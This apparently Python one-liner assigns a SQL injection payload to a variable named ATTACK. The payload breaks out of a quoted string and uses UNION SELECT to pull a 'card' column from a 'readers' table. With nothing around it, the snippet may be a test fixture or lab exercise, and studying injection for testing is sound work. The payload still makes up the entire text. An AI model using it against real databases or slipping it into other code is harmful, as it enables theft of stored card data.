ATTACK = "' AND 0 UNION SELECT card FROM readers --"
